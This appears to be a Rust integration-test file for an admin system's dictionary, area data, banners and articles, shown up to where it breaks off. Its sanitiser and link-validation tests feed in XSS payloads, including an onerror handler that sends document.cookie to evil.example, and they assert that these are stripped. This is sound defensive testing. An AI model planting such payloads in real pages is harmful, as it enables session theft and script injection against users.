//! Content management as a client sees it: the data dictionary, area data, banners and
//! articles. Runs on the database `BEEHIVE_TEST_DB` names.

use crate::support::{png, type_id, types};
use anyhow::Context;
use serde_json::{Value, json};
use testkit::{Reply, TestApp};

/// How many operation-log rows have `action`.
async fn logged(app: &TestApp, action: &str) -> anyhow::Result<usize> {
    Ok(app
        .column_texts(&format!(
            "SELECT action FROM operation_log WHERE action = '{action}'"
        ))
        .await?
        .len())
}

async fn items(app: &TestApp, token: &str, type_id: i64) -> anyhow::Result<Vec<Value>> {
    let reply = app
        .get_as(&format!("/api/admin/dictionary/items/{type_id}"), token)
        .await?;
    anyhow::ensure!(reply.code() == 200, "items: {}", reply.text);
    reply.data()
}

fn codes(items: &[Value]) -> Vec<&str> {
    items.iter().filter_map(|i| i["code"].as_str()).collect()
}

#[tokio::test]
async fn dictionary_is_seeded_with_the_built_in_types() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let all = types(&app, &root).await?;
    let expected: &[(&str, &[&str], bool)] = &[
        ("customer_kind", &["INDIVIDUAL", "ENTERPRISE"], true),
        (
            "id_type",
            &[
                "RESIDENT_ID",
                "PASSPORT",
                "HK_MACAO_PERMIT",
                "TAIWAN_PERMIT",
                "FOREIGN_PERMANENT",
            ],
            true,
        ),
        (
            "vehicle_usage",
            &["PRIVATE", "NON_OPERATING_CORP", "OPERATING", "TRUCK"],
            true,
        ),
        (
            "customer_file_kind",
            &[
                "ID_FRONT",
                "ID_BACK",
                "DRIVING_LICENSE",
                "VEHICLE_LICENSE",
                "OTHER",
            ],
            true,
        ),
        (
            "order_file_kind",
            &[
                "ID_FRONT",
                "ID_BACK",
                "DRIVING_LICENSE",
                "VEHICLE_LICENSE",
                "OWNER_DECLARATION",
                "POWER_OF_ATTORNEY",
                "CONTRACT",
                "E_POLICY",
                "PAYMENT_VOUCHER",
                "OTHER",
            ],
            true,
        ),
        (
            "surrender_reason",
            &[
                "VEHICLE_SCRAPPED",
                "VEHICLE_TRANSFERRED",
                "DUPLICATE_INSURANCE",
                "OTHER",
            ],
            true,
        ),
        (
            "banner_position",
            &["APP_HOME", "LOAN_PAGE", "PERSONAL_CENTER"],
            true,
        ),
    ];
    for (code, item_codes, built_in) in expected {
        let id = type_id(&app, &root, code).await?;
        let found = items(&app, &root, id).await?;
        assert_eq!(codes(&found), *item_codes, "{code}");
        for item in &found {
            assert_eq!(item["builtIn"], *built_in, "{code} {}", item["code"]);
            assert!(!item["labelZh"].as_str().unwrap_or_default().is_empty());
            for label in ["labelEn", "labelEs", "labelJa"] {
                assert!(
                    !item[label].as_str().unwrap_or_default().is_empty(),
                    "{code} {} lacks {label}",
                    item["code"]
                );
            }
        }
        assert!(
            all.iter()
                .any(|t| t["code"] == *code && t["builtIn"] == true)
        );
    }
    for code in ["reject_reason", "return_reason"] {
        let found = items(&app, &root, type_id(&app, &root, code).await?).await?;
        assert!(found.len() >= 3, "{code} has realistic items");
        assert!(
            found.iter().all(|i| i["builtIn"] == false),
            "{code} items are the admins' to change"
        );
    }
    let ids = items(&app, &root, type_id(&app, &root, "id_type").await?).await?;
    assert_eq!(ids[0]["labelZh"], "居民身份证");
    assert_eq!(ids[2]["labelZh"], "港澳居民来往内地通行证");
    // A built-in item has its label in the four languages, in the list and for the selects.
    let resident = json!({
        "code": "RESIDENT_ID",
        "labelZh": "居民身份证",
        "labelEn": "Resident ID card",
        "labelEs": "Documento de identidad de residente",
        "labelJa": "居民身分証",
        "enabled": true,
    });
    for key in [
        "code", "labelZh", "labelEn", "labelEs", "labelJa", "enabled",
    ] {
        assert_eq!(ids[0][key], resident[key], "{key}: {}", ids[0]);
    }
    let options = app.get_as("/api/common/dictionary/id_type", &root).await?;
    assert_eq!(options.code(), 200, "{}", options.text);
    assert_eq!(options.body["data"][0], resident, "{}", options.text);
    for code in ["reject_reason", "return_reason"] {
        let found = items(&app, &root, type_id(&app, &root, code).await?).await?;
        assert!(
            found
                .iter()
                .all(|i| i["labelEs"] != "" && i["labelJa"] != ""),
            "{code}: the seeded examples are translated too"
        );
    }
    app.stop().await
}

#[tokio::test]
async fn dictionary_items_keep_spanish_and_japanese_labels() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let positions = type_id(&app, &root, "banner_position").await?;

    let created = app
        .post_as(
            "/api/admin/dictionary/item/create",
            &root,
            &json!({ "typeId": positions, "code": "REPAY_PAGE", "labelZh": "还款页", "labelEn": "Repayment page", "labelEs": " Página de pago ", "labelJa": "返済ページ", "sort": 40, "enabled": true }),
        )
        .await?;
    assert_eq!(created.code(), 200, "{}", created.text);
    let id = created.created_id()?;
    let saved = items(&app, &root, positions).await?;
    let saved = saved
        .iter()
        .find(|i| i["id"] == id)
        .with_context(|| format!("item {id} not listed"))?;
    assert_eq!(
        (&saved["labelEs"], &saved["labelJa"]),
        (&json!("Página de pago"), &json!("返済ページ")),
        "trimmed and kept: {saved}"
    );
    let options = app
        .get_as("/api/common/dictionary/banner_position", &root)
        .await?;
    let option = options.body["data"]
        .as_array()
        .and_then(|all| all.iter().find(|o| o["code"] == "REPAY_PAGE"))
        .with_context(|| format!("no REPAY_PAGE in {}", options.text))?;
    assert_eq!(
        (&option["labelEs"], &option["labelJa"]),
        (&json!("Página de pago"), &json!("返済ページ"))
    );

    // Optional like the English label: left out, they are empty (the web shows English, then
    // Chinese); an update changes them.
    let update = app
        .post_as(
            &format!("/api/admin/dictionary/item/update/{id}"),
            &root,
            &json!({ "code": "REPAY_PAGE", "labelZh": "还款页", "labelEn": "Repayment page", "labelJa": "返済画面", "sort": 40, "enabled": true }),
        )
        .await?;
    assert_eq!(update.code(), 200, "{}", update.text);
    let saved = items(&app, &root, positions).await?;
    let saved = saved
        .iter()
        .find(|i| i["id"] == id)
        .with_context(|| format!("item {id} not listed"))?;
    assert_eq!(
        (&saved["labelEs"], &saved["labelJa"]),
        (&json!(""), &json!("返済画面"))
    );

    // The same limit as the English label: 128 characters, named by field.
    for field in ["labelEs", "labelJa"] {
        let mut body =
            json!({ "typeId": positions, "code": "TOO_LONG", "labelZh": "过长", "enabled": true });
        body[field] = json!("あ".repeat(129));
        let refused = app
            .post_as("/api/admin/dictionary/item/create", &root, &body)
            .await?;
        assert_eq!(refused.code(), 400, "{}", refused.text);
        assert!(refused.field(field).is_some(), "{field}: {}", refused.text);
        body[field] = json!("あ".repeat(128));
        body["code"] = json!(format!("LONG_{field}"));
        let taken = app
            .post_as("/api/admin/dictionary/item/create", &root, &body)
            .await?;
        assert_eq!(taken.code(), 200, "{field}: {}", taken.text);
    }
    app.stop().await
}

#[tokio::test]
async fn dictionary_forms_report_every_field_at_once() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let reasons = type_id(&app, &root, "reject_reason").await?;
    let before = items(&app, &root, reasons).await?.len();
    let reply = app
        .post_as(
            "/api/admin/dictionary/item/create",
            &root,
            &json!({ "typeId": reasons, "code": "9 bad", "labelZh": " ", "sort": -1, "enabled": true }),
        )
        .await?;
    assert_eq!(reply.code(), 400, "{}", reply.text);
    for field in ["code", "labelZh", "sort"] {
        assert!(
            reply.field(field).is_some(),
            "{field} missing: {}",
            reply.text
        );
    }
    assert_eq!(reply.msg(), reply.field("code").unwrap_or_default());
    assert_eq!(
        items(&app, &root, reasons).await?.len(),
        before,
        "nothing added"
    );

    // A built-in item: its code and its status are both named, and it keeps them.
    let positions = type_id(&app, &root, "banner_position").await?;
    let built_in = items(&app, &root, positions)
        .await?
        .into_iter()
        .find(|i| i["builtIn"] == true)
        .context("a built-in banner position")?;
    let id = built_in["id"].as_i64().context("item id")?;
    let reply = app
        .post_as(
            &format!("/api/admin/dictionary/item/update/{id}"),
            &root,
            &json!({ "code": "RENAMED", "labelZh": "", "enabled": false }),
        )
        .await?;
    assert_eq!(reply.code(), 400, "{}", reply.text);
    assert_eq!(reply.field("code"), Some("内置字典项的编码不能修改"));
    assert!(reply.field("labelZh").is_some(), "{}", reply.text);
    assert!(reply.field("enabled").is_some(), "{}", reply.text);
    let after = items(&app, &root, positions).await?;
    let kept = after
        .iter()
        .find(|i| i["id"] == id)
        .context("the item is still there")?;
    assert_eq!(kept["code"], built_in["code"]);
    assert_eq!(kept["labelZh"], built_in["labelZh"]);

    // A type: code and Chinese name at once.
    let count = types(&app, &root).await?.len();
    let reply = app
        .post_as(
            "/api/admin/dictionary/type/create",
            &root,
            &json!({ "code": "Bad-Code", "nameZh": " ", "nameEn": "", "remark": "" }),
        )
        .await?;
    assert_eq!(reply.code(), 400, "{}", reply.text);
    assert!(reply.field("code").is_some(), "{}", reply.text);
    assert!(reply.field("nameZh").is_some(), "{}", reply.text);
    assert_eq!(types(&app, &root).await?.len(), count, "no type added");
    app.stop().await
}

#[tokio::test]
async fn dictionary_items_can_be_managed_and_built_ins_are_protected() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let reasons = type_id(&app, &root, "reject_reason").await?;

    // Add, read back through the common call, rename, disable, delete.
    let created = app
        .post_as(
            "/api/admin/dictionary/item/create",
            &root,
            &json!({ "typeId": reasons, "code": "BLURRY_POLICY", "labelZh": "保单影像模糊", "labelEn": "Blurry policy scan", "sort": 5, "enabled": true }),
        )
        .await?;
    assert_eq!(created.code(), 200, "{}", created.text);
    let id = created.created_id()?;
    assert_eq!(logged(&app, "dictionary.item.create").await?, 1);
    let options = app
        .get_as("/api/common/dictionary/reject_reason", &root)
        .await?;
    assert_eq!(options.code(), 200, "{}", options.text);
    assert_eq!(
        options.body["data"][0]["code"], "BLURRY_POLICY",
        "sorted by sort: {}",
        options.text
    );
    assert!(
        app.beehive()
            .dictionary_has("reject_reason", "BLURRY_POLICY")
            .await
            .map_err(|e| anyhow::anyhow!("{e}"))?
    );

    let duplicate = app
        .post_as(
            "/api/admin/dictionary/item/create",
            &root,
            &json!({ "typeId": reasons, "code": "BLURRY_POLICY", "labelZh": "重复", "enabled": true }),
        )
        .await?;
    assert_eq!(duplicate.code(), 409, "{}", duplicate.text);

    let disabled = app
        .post_as(
            &format!("/api/admin/dictionary/item/update/{id}"),
            &root,
            &json!({ "code": "BLURRY_SCAN", "labelZh": "影像模糊", "labelEn": "Blurry scan", "sort": 5, "enabled": false }),
        )
        .await?;
    assert_eq!(disabled.code(), 200, "{}", disabled.text);
    let options = app
        .get_as("/api/common/dictionary/reject_reason", &root)
        .await?;
    assert!(
        !options.text.contains("BLURRY_SCAN"),
        "a disabled item is no option"
    );
    let all = app
        .get_as("/api/common/dictionary/reject_reason?all=true", &root)
        .await?;
    assert!(
        all.text.contains("BLURRY_SCAN") && all.text.contains("\"enabled\":false"),
        "{}",
        all.text
    );
    assert!(
        !app.beehive()
            .dictionary_has("reject_reason", "BLURRY_SCAN")
            .await
            .map_err(|e| anyhow::anyhow!("{e}"))?
    );

    let deleted = app
        .post_as(
            &format!("/api/admin/dictionary/item/delete/{id}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(deleted.code(), 200, "{}", deleted.text);
    assert_eq!(logged(&app, "dictionary.item.delete").await?, 1);

    // Built-in items: relabel yes; code change, disabling and deleting no.
    let kinds = items(&app, &root, type_id(&app, &root, "customer_kind").await?).await?;
    let individual = kinds[0]["id"]
        .as_i64()
        .with_context(|| format!("no item id in {}", kinds[0]))?;
    let relabel = app
        .post_as(
            &format!("/api/admin/dictionary/item/update/{individual}"),
            &root,
            &json!({ "code": "INDIVIDUAL", "labelZh": "个人客户", "labelEn": "Individual", "sort": 1, "enabled": true }),
        )
        .await?;
    assert_eq!(relabel.code(), 200, "{}", relabel.text);
    for (body, name) in [
        (
            json!({ "code": "PERSON", "labelZh": "个人", "labelEn": "", "sort": 1, "enabled": true }),
            "code",
        ),
        (
            json!({ "code": "INDIVIDUAL", "labelZh": "个人", "labelEn": "", "sort": 1, "enabled": false }),
            "enabled",
        ),
    ] {
        let refused = app
            .post_as(
                &format!("/api/admin/dictionary/item/update/{individual}"),
                &root,
                &body,
            )
            .await?;
        assert_eq!(refused.code(), 400, "{}", refused.text);
        assert!(refused.field(name).is_some(), "{name}: {}", refused.text);
    }
    let refused = app
        .post_as(
            &format!("/api/admin/dictionary/item/delete/{individual}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(refused.code(), 409, "{}", refused.text);
    let kinds = items(&app, &root, type_id(&app, &root, "customer_kind").await?).await?;
    assert_eq!(kinds[0]["code"], "INDIVIDUAL");
    assert_eq!(kinds[0]["labelZh"], "个人客户");
    assert_eq!(kinds[0]["enabled"], true);

    // Types: a new one, its code checked; a built-in one cannot be deleted; one with items neither.
    for (body, name) in [
        (
            json!({ "code": "Loan-Purpose", "nameZh": "借款用途" }),
            "code",
        ),
        (json!({ "code": "loan_purpose", "nameZh": "  " }), "nameZh"),
    ] {
        let refused = app
            .post_as("/api/admin/dictionary/type/create", &root, &body)
            .await?;
        assert_eq!(refused.code(), 400, "{}", refused.text);
        assert!(refused.field(name).is_some(), "{name}: {}", refused.text);
    }
    let count = types(&app, &root).await?.len();
    let created = app
        .post_as(
            "/api/admin/dictionary/type/create",
            &root,
            &json!({ "code": "loan_purpose", "nameZh": "借款用途", "nameEn": "Loan purpose" }),
        )
        .await?;
    assert_eq!(created.code(), 200, "{}", created.text);
    let purpose = created.created_id()?;
    assert_eq!(types(&app, &root).await?.len(), count + 1);
    let again = app
        .post_as(
            "/api/admin/dictionary/type/create",
            &root,
            &json!({ "code": "loan_purpose", "nameZh": "重复" }),
        )
        .await?;
    assert_eq!(again.code(), 409, "{}", again.text);
    let item = app
        .post_as("/api/admin/dictionary/item/create", &root, &json!({ "typeId": purpose, "code": "CAR_INSURANCE", "labelZh": "车险分期", "enabled": true }))
        .await?;
    assert_eq!(item.code(), 200, "{}", item.text);
    let with_items = app
        .post_as(
            &format!("/api/admin/dictionary/type/delete/{purpose}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(with_items.code(), 409, "{}", with_items.text);
    let builtin = type_id(&app, &root, "id_type").await?;
    let refused = app
        .post_as(
            &format!("/api/admin/dictionary/type/delete/{builtin}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(refused.code(), 409, "{}", refused.text);
    let unknown = app
        .get_as("/api/common/dictionary/no_such_type", &root)
        .await?;
    assert_eq!(unknown.code(), 404, "{}", unknown.text);
    app.stop().await
}

#[tokio::test]
async fn dictionary_permissions() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let viewer = app
        .limited_admin(&root, "dictviewer", &["admin:dictionary:table"])
        .await?
        .token;
    let outsider = app
        .limited_admin(&root, "outsider", &["admin:role:table"])
        .await?
        .token;
    let reasons = type_id(&app, &root, "reject_reason").await?;
    let before = items(&app, &root, reasons).await?.len();
    assert_eq!(
        app.get_as("/api/admin/dictionary/types", &viewer)
            .await?
            .code(),
        200
    );
    assert_eq!(
        app.get_as("/api/admin/dictionary/types", &outsider)
            .await?
            .code(),
        403
    );
    for (path, body) in [
        (
            "/api/admin/dictionary/item/create",
            json!({ "typeId": reasons, "code": "NEW_ONE", "labelZh": "新", "enabled": true }),
        ),
        (
            "/api/admin/dictionary/type/create",
            json!({ "code": "new_type", "nameZh": "新类型" }),
        ),
        ("/api/admin/dictionary/item/delete/1", json!({})),
        (
            "/api/admin/dictionary/type/update/1",
            json!({ "nameZh": "改" }),
        ),
    ] {
        let reply = app.post_as(path, &viewer, &body).await?;
        assert_eq!(reply.code(), 403, "{path}: {}", reply.text);
    }
    assert_eq!(
        items(&app, &root, reasons).await?.len(),
        before,
        "nothing changed"
    );
    // The select call is open to any signed-in user, capital providers too; not to strangers.
    assert_eq!(
        app.get_as("/api/common/dictionary/id_type", &outsider)
            .await?
            .code(),
        200
    );
    app.capital_user("华夏资金", "capital1", "Capital-Pass-1")
        .await?;
    let capital = app
        .session("capital", "capital1", "Capital-Pass-1")
        .await?
        .token;
    let options = app
        .get_as("/api/common/dictionary/id_type", &capital)
        .await?;
    assert_eq!(options.code(), 200, "{}", options.text);
    assert_eq!(options.body["data"].as_array().map(Vec::len), Some(5));
    let anonymous = app.get("/api/common/dictionary/id_type").await?;
    assert_eq!(anonymous.status, 401);
    app.stop().await
}

#[tokio::test]
async fn area_data_is_complete_and_cached() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let reply = app.get_as("/api/common/area/data", &root).await?;
    assert_eq!(reply.code(), 200);
    let tree: Vec<Value> = reply.data()?;
    // The statistics bureau's dataset: the 31 provincial divisions of the mainland (no codes
    // for Hong Kong, Macao and Taiwan).
    assert_eq!(tree.len(), 31);
    let find = |nodes: &[Value], code: &str| {
        nodes
            .iter()
            .find(|n| n["code"] == code)
            .cloned()
            .unwrap_or(Value::Null)
    };
    let beijing = find(&tree, "110000");
    assert_eq!(beijing["name"], "北京市");
    let xinjiang = find(&tree, "650000");
    assert_eq!(xinjiang["name"], "新疆维吾尔自治区");
    let guangdong = find(&tree, "440000");
    let shenzhen = find(
        guangdong["children"]
            .as_array()
            .map_or(&[][..], Vec::as_slice),
        "440300",
    );
    assert_eq!(shenzhen["name"], "深圳市");
    let nanshan = find(
        shenzhen["children"]
            .as_array()
            .map_or(&[][..], Vec::as_slice),
        "440305",
    );
    assert_eq!(nanshan["name"], "南山区");
    let cities: usize = tree
        .iter()
        .map(|p| p["children"].as_array().map_or(0, Vec::len))
        .sum();
    assert_eq!(cities, 342);

    // The whole tree carries an ETag; asking again with it answers 304 without a body.
    let etag = reply.header("etag").unwrap_or_default().to_owned();
    assert!(etag.starts_with("\"area-"), "{etag}");
    let again = app
        .client
        .get(app.url("/api/common/area/data"))
        .header(testkit::TOKEN_HEADER, &root)
        .header("if-none-match", &etag)
        .send()
        .await?;
    assert_eq!(again.status().as_u16(), 304);

    // The 'form' call style: POST urlencoded, children of one area only.
    let children = app
        .client
        .post(app.url("/api/common/area/data"))
        .header(testkit::TOKEN_HEADER, &root)
        .header("content-type", "application/x-www-form-urlencoded")
        .body("parentCode=440300")
        .send()
        .await?;
    let children = Reply::read(children).await?;
    assert_eq!(children.code(), 200, "{}", children.text);
    let districts: Vec<Value> = children.data()?;
    assert!(
        districts
            .iter()
            .any(|d| d["code"] == "440305" && d["name"] == "南山区")
    );
    assert!(
        districts
            .iter()
            .all(|d| d["children"].as_array().is_some_and(Vec::is_empty))
    );
    let unknown = app
        .get_as("/api/common/area/data?parentCode=999999", &root)
        .await?;
    assert_eq!(unknown.code(), 400);
    assert!(unknown.field("parentCode").is_some());
    assert_eq!(app.get("/api/common/area/data").await?.status, 401);
    app.stop().await
}

fn banner_body(file_id: i64) -> Value {
    json!({
        "title": "春季车险分期 0 首付", "position": "APP_HOME", "imageFileId": file_id,
        "link": "/loan/apply?from=banner", "sort": 10, "validFrom": null, "validTo": null, "enabled": true
    })
}

#[tokio::test]
async fn banner_and_article_forms_report_every_field_at_once() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let now = 1_790_000_000_000_i64;
    let reply = app
        .post_as(
            "/api/admin/banner/create",
            &root,
            &json!({ "title": " ", "position": "NOWHERE", "imageFileId": 999_999,
                     "link": "javascript:alert(1)", "sort": -1, "validFrom": now,
                     "validTo": now - 1, "enabled": true }),
        )
        .await?;
    assert_eq!(reply.code(), 400, "{}", reply.text);
    for field in [
        "title",
        "position",
        "imageFileId",
        "link",
        "sort",
        "validTo",
    ] {
        assert!(
            reply.field(field).is_some(),
            "{field} missing: {}",
            reply.text
        );
    }
    assert_eq!(reply.msg(), reply.field("title").unwrap_or_default());
    let page = app
        .post_as("/api/admin/banner/page", &root, &json!({}))
        .await?;
    assert_eq!(page.body["data"]["total"], 0, "no banner created");

    let reply = app
        .post_as(
            "/api/admin/article/category/create",
            &root,
            &json!({ "name": " ", "sort": -1, "enabled": true }),
        )
        .await?;
    assert_eq!(reply.code(), 400, "{}", reply.text);
    assert!(reply.field("name").is_some(), "{}", reply.text);
    assert!(reply.field("sort").is_some(), "{}", reply.text);
    let reply = app
        .post_as(
            "/api/admin/article/create",
            &root,
            &json!({ "title": "", "categoryId": 99_999, "coverFileId": 999_999, "body": "<p> </p>" }),
        )
        .await?;
    assert_eq!(reply.code(), 400, "{}", reply.text);
    for field in ["title", "categoryId", "coverFileId", "body"] {
        assert!(
            reply.field(field).is_some(),
            "{field} missing: {}",
            reply.text
        );
    }
    assert_eq!(reply.field("categoryId"), Some("请选择文章分类"));
    let page = app
        .post_as("/api/admin/article/page", &root, &json!({}))
        .await?;
    assert_eq!(page.body["data"]["total"], 0, "no article created");
    let categories = app
        .get_as("/api/admin/article/category/list", &root)
        .await?;
    assert_eq!(categories.body["data"], json!([]), "no category created");
    app.stop().await
}

#[tokio::test]
async fn banners() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let uploaded = app
        .upload_as(
            "/api/admin/banner/image/upload",
            &root,
            &[],
            "春季.png",
            &png(),
        )
        .await?;
    assert_eq!(uploaded.code(), 200, "{}", uploaded.text);
    let file_id = uploaded.created("fileId")?;
    let not_image = app
        .upload_as(
            "/api/admin/banner/image/upload",
            &root,
            &[],
            "x.html",
            b"<html><script>alert(1)</script>",
        )
        .await?;
    assert_eq!(not_image.code(), 400, "{}", not_image.text);
    assert!(not_image.field("file").is_some());

    let created = app
        .post_as("/api/admin/banner/create", &root, &banner_body(file_id))
        .await?;
    assert_eq!(created.code(), 200, "{}", created.text);
    let id = created.created_id()?;
    assert_eq!(logged(&app, "banner.create").await?, 1);

    // Validation names the field and changes nothing.
    let now = 1_790_000_000_000_i64;
    let mut cases = Vec::new();
    for (patch, name) in [
        (json!({ "title": " " }), "title"),
        (json!({ "link": "javascript:alert(1)" }), "link"),
        (json!({ "link": "//evil.example/x" }), "link"),
        (json!({ "link": "ftp://example.com" }), "link"),
        (json!({ "position": "NOWHERE" }), "position"),
        (json!({ "imageFileId": 999_999 }), "imageFileId"),
        (json!({ "validFrom": now, "validTo": now - 1 }), "validTo"),
        (json!({ "sort": -1 }), "sort"),
    ] {
        let mut body = banner_body(file_id);
        if let (Some(b), Some(p)) = (body.as_object_mut(), patch.as_object()) {
            for (k, v) in p {
                b.insert(k.clone(), v.clone());
            }
        }
        cases.push((body, name));
    }
    for (body, name) in &cases {
        let refused = app
            .post_as(&format!("/api/admin/banner/update/{id}"), &root, body)
            .await?;
        assert_eq!(refused.code(), 400, "{name}: {}", refused.text);
        assert!(refused.field(name).is_some(), "{name}: {}", refused.text);
    }
    let page = app
        .post_as("/api/admin/banner/page", &root, &json!({}))
        .await?;
    assert_eq!(page.body["data"]["total"], 1);
    let row = &page.body["data"]["records"][0];
    assert_eq!(row["title"], "春季车险分期 0 首付");
    assert_eq!(row["link"], "/loan/apply?from=banner");
    assert_eq!(row["showing"], true);

    // A position added to the dictionary can be used; a disabled one cannot.
    let positions = type_id(&app, &root, "banner_position").await?;
    let added = app
        .post_as("/api/admin/dictionary/item/create", &root, &json!({ "typeId": positions, "code": "REPAY_PAGE", "labelZh": "还款页", "labelEn": "Repayment page", "enabled": true }))
        .await?;
    assert_eq!(added.code(), 200, "{}", added.text);
    let mut body = banner_body(file_id);
    body["position"] = json!("REPAY_PAGE");
    body["link"] = json!("https://www.example.com/promo");
    body["validFrom"] = json!(now);
    body["validTo"] = json!(now + 86_400_000);
    let moved = app
        .post_as(&format!("/api/admin/banner/update/{id}"), &root, &body)
        .await?;
    assert_eq!(moved.code(), 200, "{}", moved.text);
    let filtered = app
        .post_as(
            "/api/admin/banner/page",
            &root,
            &json!({ "position": "REPAY_PAGE" }),
        )
        .await?;
    assert_eq!(filtered.body["data"]["total"], 1);
    assert_eq!(
        filtered.body["data"]["records"][0]["validTo"],
        now + 86_400_000
    );

    // The image is previewed through the guarded route only.
    let image = app
        .client
        .get(app.url(&format!("/api/admin/banner/image/{file_id}")))
        .header(testkit::TOKEN_HEADER, &root)
        .send()
        .await?;
    assert_eq!(image.status().as_u16(), 200);
    assert_eq!(
        image
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok()),
        Some("image/png")
    );
    assert_eq!(image.bytes().await?.as_ref(), png().as_slice());
    assert_eq!(
        app.get(&format!("/api/admin/banner/image/{file_id}"))
            .await?
            .status,
        401
    );

    // Permissions: a viewer sees the list and images but changes nothing.
    let viewer = app
        .limited_admin(&root, "bannerviewer", &["admin:banner:table"])
        .await?
        .token;
    assert_eq!(
        app.post_as("/api/admin/banner/page", &viewer, &json!({}))
            .await?
            .code(),
        200
    );
    assert_eq!(
        app.get_as(&format!("/api/admin/banner/image/{file_id}"), &viewer)
            .await?
            .status,
        200
    );
    assert_eq!(
        app.post_as("/api/admin/banner/create", &viewer, &banner_body(file_id))
            .await?
            .code(),
        403
    );
    assert_eq!(
        app.post_as(
            &format!("/api/admin/banner/delete/{id}"),
            &viewer,
            &json!({})
        )
        .await?
        .code(),
        403
    );
    assert_eq!(
        app.upload_as(
            "/api/admin/banner/image/upload",
            &viewer,
            &[],
            "a.png",
            &png()
        )
        .await?
        .code(),
        403
    );
    let outsider = app
        .limited_admin(&root, "banneroutsider", &["admin:role:table"])
        .await?
        .token;
    assert_eq!(
        app.get_as(&format!("/api/admin/banner/image/{file_id}"), &outsider)
            .await?
            .code(),
        403
    );
    assert_eq!(
        app.post_as("/api/admin/banner/page", &root, &json!({}))
            .await?
            .body["data"]["total"],
        1
    );

    let deleted = app
        .post_as(&format!("/api/admin/banner/delete/{id}"), &root, &json!({}))
        .await?;
    assert_eq!(deleted.code(), 200, "{}", deleted.text);
    assert_eq!(
        app.post_as("/api/admin/banner/page", &root, &json!({}))
            .await?
            .body["data"]["total"],
        0
    );
    assert_eq!(logged(&app, "banner.delete").await?, 1);
    app.stop().await
}

#[tokio::test]
async fn articles_are_sanitized_published_and_unpublished() -> anyhow::Result<()> {
    let app = TestApp::spawn().await?;
    let root = app.admin_token().await?;
    let category = app
        .post_as(
            "/api/admin/article/category/create",
            &root,
            &json!({ "name": "平台公告", "sort": 1, "enabled": true }),
        )
        .await?;
    assert_eq!(category.code(), 200, "{}", category.text);
    let category_id = category.created_id()?;
    let same = app
        .post_as(
            "/api/admin/article/category/create",
            &root,
            &json!({ "name": "平台公告", "enabled": true }),
        )
        .await?;
    assert_eq!(same.code(), 409);

    let attack = concat!(
        "<h2>分期服务升级</h2>",
        "<p class=\"ql-align-center\"><strong>自即日起</strong>，<span style=\"color: rgb(230, 0, 0);\">首付比例</span>下调。</p>",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
        "<a href=\"javascript:alert(1)\">点此领取</a>",
        "<a href=\"https://www.example.com/rules\" onclick=\"steal()\">活动规则</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<p style=\"background-image: url(javascript:alert(1))\">样式攻击</p>",
        "<svg><g onload=alert(1)></g></svg>",
        "<object data=\"x.swf\"></object>",
    );
    let created = app
        .post_as("/api/admin/article/create", &root, &json!({ "title": "车险分期服务升级公告", "categoryId": category_id, "coverFileId": null, "body": attack }))
        .await?;
    assert_eq!(created.code(), 200, "{}", created.text);
    let id = created.created_id()?;
    let view = app
        .get_as(&format!("/api/admin/article/view/{id}"), &root)
        .await?;
    let body = view.body["data"]["body"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let lower = body.to_ascii_lowercase();
    for bad in [
        "<script",
        "onerror",
        "onclick",
        "onload",
        "javascript:",
        "<iframe",
        "<svg",
        "<object",
        "document.cookie",
        "url(",
    ] {
        assert!(!lower.contains(bad), "{bad} survived: {body}");
    }
    for good in [
        "<h2>分期服务升级</h2>",
        "class=\"ql-align-center\"",
        "<strong>自即日起</strong>",
        "color:rgb(230, 0, 0)",
        "href=\"https://www.example.com/rules\"",
        "rel=\"noopener noreferrer\"",
    ] {
        assert!(body.contains(good), "{good} lost: {body}");
    }
    assert_eq!(view.body["data"]["status"], "DRAFT");
    assert_eq!(view.body["data"]["publishedAt"], Value::Null);

    // An empty body (only tags or only script) and a missing category are refused by field.
    for (patch, name) in [
        (json!({ "body": "<p><br></p>" }), "body"),
        (json!({ "body": "<script>alert(1)</script>" }), "body"),
        (json!({ "title": "" }), "title"),
        (json!({ "categoryId": 999_999 }), "categoryId"),
        (json!({ "coverFileId": 999_999 }), "coverFileId"),
    ] {
        let mut input = json!({ "title": "标题", "categoryId": category_id, "coverFileId": null, "body": "<p>正文</p>" });
        if let (Some(b), Some(p)) = (input.as_object_mut(), patch.as_object()) {
            for (k, v) in p {
                b.insert(k.clone(), v.clone());
            }
        }
        let refused = app
            .post_as(&format!("/api/admin/article/update/{id}"), &root, &input)
            .await?;
        assert_eq!(refused.code(), 400, "{name}: {}", refused.text);
        assert!(refused.field(name).is_some(), "{name}: {}", refused.text);
    }
    let unchanged = app
        .get_as(&format!("/api/admin/article/view/{id}"), &root)
        .await?;
    assert_eq!(unchanged.body["data"]["title"], "车险分期服务升级公告");

    // A cover image.
    let cover = app
        .upload_as(
            "/api/admin/article/cover/upload",
            &root,
            &[],
            "cover.png",
            &png(),
        )
        .await?;
    assert_eq!(cover.code(), 200, "{}", cover.text);
    let cover_id = cover.created("fileId")?;
    let with_cover = app
        .post_as(&format!("/api/admin/article/update/{id}"), &root, &json!({ "title": "车险分期服务升级公告", "categoryId": category_id, "coverFileId": cover_id, "body": body }))
        .await?;
    assert_eq!(with_cover.code(), 200, "{}", with_cover.text);
    assert_eq!(
        app.get_as(&format!("/api/admin/article/cover/{cover_id}"), &root)
            .await?
            .status,
        200
    );
    // A banner image is not an article cover.
    let banner_image = app
        .upload_as(
            "/api/admin/banner/image/upload",
            &root,
            &[],
